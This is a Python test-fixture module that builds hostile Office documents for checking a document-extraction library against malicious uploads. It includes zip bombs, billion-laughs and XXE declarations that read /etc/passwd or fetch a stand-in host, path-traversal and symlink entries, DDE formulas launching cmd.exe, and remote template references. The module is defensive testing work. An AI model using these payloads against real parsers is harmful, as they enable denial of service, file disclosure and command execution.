"""Office files made to harm whoever opens them: archives that explode, declarations that multiply, references that fetch."""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile
from collections.abc import Iterator

from passerelle.lib.documents import Problem
from passerelle.lib.tests.office_files import DOCX, ODT, PPTX, WORDS, XLSX, docx, odt, pptx, xlsx, zipped

Hostile = tuple[str, bytes, str, Problem | str]
"""A name, the file, what it is sent as, and what comes of it: a problem, or the text that is found all the same."""

_MADE = {DOCX: docx, PPTX: pptx, ODT: odt, XLSX: xlsx}
_SHORT = {DOCX: "docx", PPTX: "pptx", ODT: "odt", XLSX: "xlsx"}
_SECRET, _AFAR = "file:///etc/passwd", "http://tripwire.example/evil"
_LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
_DECLARED = {
    "laughs": f'<!DOCTYPE r [<!ENTITY l0 "lol">{_LAUGHS}]>',
    "quadratic": f'<!DOCTYPE r [<!ENTITY l9 "{"a" * 50_000}">]>',
    "reads-a-file": f'<!DOCTYPE r [<!ENTITY l9 SYSTEM "{_SECRET}">]>',
    "fetches": f'<!DOCTYPE r SYSTEM "{_AFAR}.dtd">',
    "parameter-entities": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{_AFAR}"> %p;]>',
}
_RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    f'TargetMode="External" Type="http://schemas.openxmlformats.org/x" Target="{_AFAR}"/></Relationships>'
)


def hostile_office() -> Iterator[Hostile]:
    """All of them."""
    yield from _bombs()
    yield from _declaring()
    yield from _broken()
    yield from _lying()
    yield from _reaching()
    yield from _sheets()


def _bombs() -> Iterator[Hostile]:
    big = "a" * (12 << 20)
    part = {DOCX: "word/document.xml", PPTX: "ppt/slides/slide1.xml", ODT: "content.xml", XLSX: "xl/sharedStrings.xml"}
    for mime, make in _MADE.items():
        yield f"bomb.{_SHORT[mime]}", zipped({**make(), part[mime]: big}), mime, Problem.TOO_LARGE
    nested = zipped({"big": big})
    yield "bomb-inside-is-left-shut.docx", zipped({**docx(), "word/embeddings/1.docx": nested}), DOCX, WORDS
    for _ in range(6):
        nested = zipped({f"{number}.zip": nested for number in range(4)})
    yield "matryoshka.docx", zipped({**docx(), "word/embeddings/1.docx": nested}), DOCX, WORDS
    yield "overlapping.docx", _overlapping(), DOCX, Problem.UNSAFE
    yield "twenty-thousand-entries.odt", zipped(odt() | {f"{n}": "" for n in range(20_000)}), ODT, Problem.TOO_LARGE
    yield "claims-a-terabyte.docx", _claiming(0xFFFF_FFF0), DOCX, Problem.TOO_LARGE
    yield "claims-ten-bytes.docx", _claiming(10), DOCX, Problem.DAMAGED


def _declaring() -> Iterator[Hostile]:
    yield "laughs.pptx", zipped(pptx(before=_DECLARED["laughs"])), PPTX, Problem.UNSAFE
    yield "laughs.odt", zipped(odt(before=_DECLARED["laughs"])), ODT, Problem.UNSAFE
    yield "laughs.xlsx", zipped(xlsx(before=_DECLARED["laughs"])), XLSX, Problem.UNSAFE
    for name, declared in _DECLARED.items():
        body = "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"
        yield f"{name}.docx", zipped(docx(body if "l9" in declared else "", before=declared)), DOCX, Problem.UNSAFE
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + _DECLARED["laughs"] + "<r>&l9;</r>").encode("utf-16")
    yield "laughs-in-utf-16.xlsx", zipped({**xlsx(), "xl/sharedStrings.xml": wide}), XLSX, Problem.UNSAFE
    yield "laughs-in-utf-16.docx", zipped({**docx(), "word/document.xml": wide}), DOCX, Problem.UNSAFE


def _broken() -> Iterator[Hostile]:
    deep = "<w:x>" * 100_000 + "</w:x>" * 100_000
    whole = zipped(docx())
    yield "truncated.docx", whole[: len(whole) * 2 // 3], DOCX, Problem.DAMAGED
    yield "truncated.xlsx", whole[: len(whole) * 2 // 3], XLSX, Problem.DAMAGED
    yield "deep.docx", zipped(docx(deep)), DOCX, Problem.WORDLESS
    yield "deep.odt", zipped(odt(deep.replace("w:", "text:"))), ODT, Problem.WORDLESS
    yield "deep.xlsx", zipped(xlsx(deep.replace("w:", ""))), XLSX, "Hinges"
    yield "elements-without-a-word.docx", zipped(docx("<w:p/>" * 100_000)), DOCX, Problem.WORDLESS
    yield "never-ends.docx", zipped(docx(f"<w:p><w:t>{os.urandom(2 << 20).hex()} </w:t></w:p>")), DOCX, ""
    yield "a-picture.docx", b"\x89PNG\r\n\x1a\n" + bytes(500), DOCX, Problem.DAMAGED
    yield "a-document.xlsx", zipped(docx()), XLSX, Problem.DAMAGED
    yield "nothing.odt", b"PK\x05\x06" + bytes(18), ODT, Problem.DAMAGED
    yield "nuls.docx", zipped(docx("<w:p><w:t>a\0b</w:t></w:p>")), DOCX, Problem.DAMAGED
    yield "forbidden-signs.odt", zipped(odt("<text:p>&#0;&#xD800;</text:p>")), ODT, Problem.DAMAGED


def _lying() -> Iterator[Hostile]:
    names = {
        "../../etc/cron.d/x": "x",
        "/etc/passwd": "x",
        "C:\\x": "x",
        "\u202egnp.exe\u200b😀": "x",
        "a" * 60_000: "x",
    }
    yield "names-that-climb.docx", zipped(docx() | names), DOCX, WORDS
    link = zipfile.ZipInfo("word/media/1.png")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield "symlink.docx", _with(docx(), link, b"/etc/passwd"), DOCX, Problem.UNSAFE
    yield "locked-entry.docx", _locked(zipped(docx())), DOCX, Problem.ENCRYPTED
    yield "with-a-password.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), DOCX, Problem.ENCRYPTED
    manifest = "<m><encryption-data/></m>"
    yield "with-a-password.odt", zipped(odt("") | {"META-INF/manifest.xml": manifest}), ODT, Problem.ENCRYPTED


def _reaching() -> Iterator[Hostile]:
    dde = f'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText><w:t>{WORDS}</w:t></w:r></w:p>'
    yield "dde.docx", zipped(docx(dde)), DOCX, WORDS
    yield "template-from-afar.docx", zipped(docx() | {"word/_rels/settings.xml.rels": _RELATION}), DOCX, WORDS
    included = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{_SECRET}"/><w:p><w:t>{WORDS}</w:t></w:p>'
    yield "include.docx", zipped(docx(included)), DOCX, WORDS
    yield "picture-from-afar.pptx", zipped(pptx() | {"ppt/slides/_rels/slide1.xml.rels": _RELATION}), PPTX, WORDS
    image = f'<text:p xmlns:l="http://www.w3.org/1999/xlink" l:href="{_AFAR}">{WORDS}</text:p>'
    yield "picture-from-afar.odt", zipped(odt(image)), ODT, WORDS
    yield (
        "other-workbook.xlsx",
        zipped(xlsx() | {"xl/externalLinks/_rels/1.xml.rels": _RELATION}),
        XLSX,
        f"Hinges\n{WORDS}",
    )


def _sheets() -> Iterator[Hostile]:
    cell = '<c r="{}" t="inlineStr"><is><t>' + WORDS + "</t></is></c>"
    found = f"Hinges\n{WORDS}"
    dde = '<row r="1"><c r="A1" t="str"><f>cmd|\'/C calc\'!A0</f><v>' + WORDS + "</v></c></row>"
    yield "dde.xlsx", zipped(xlsx(dde)), XLSX, found
    yield "says-it-is-endless.xlsx", zipped(xlsx(dimension="A1:XFD1048576")), XLSX, found
    last = f'<row r="1048576">{cell.format("XFD1048576")}</row>'
    yield "last-cell-only.xlsx", zipped(xlsx(last, dimension="A1:XFD1048576")), XLSX, "Hinges"
    lost = '<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>'
    yield "string-that-is-not-there.xlsx", zipped(xlsx(lost)), XLSX, Problem.DAMAGED
    wide = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 5_000))
    yield "five-thousand-widest-rows.xlsx", zipped(xlsx(wide)), XLSX, ""


def _with(parts: dict[str, bytes | str], entry: zipfile.ZipInfo, content: bytes) -> bytes:
    stored = io.BytesIO(zipped(parts))
    with zipfile.ZipFile(stored, "a") as archive:
        archive.writestr(entry, content)
    return stored.getvalue()


def _overlapping() -> bytes:
    """Many names for the same bytes, as far as the directory at the end can say."""
    whole = zipped(docx())
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    directory, count = whole[start:end] * 200, 2 * 200
    return (
        whole[:start] + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    )


def _claiming(size: int) -> bytes:
    """The directory gives every entry this size."""
    whole = bytearray(zipped(docx()))
    place = whole.index(b"PK\x01\x02")
    while place != -1:
        whole[place + 24 : place + 28] = struct.pack("<L", size)
        place = whole.find(b"PK\x01\x02", place + 1)
    return bytes(whole)


def _locked(whole: bytes) -> bytes:
    """The directory says that every entry has a password."""
    changed = bytearray(whole)
    place = changed.index(b"PK\x01\x02")
    while place != -1:
        changed[place + 8] |= 1
        place = changed.find(b"PK\x01\x02", place + 1)
    return bytes(changed)
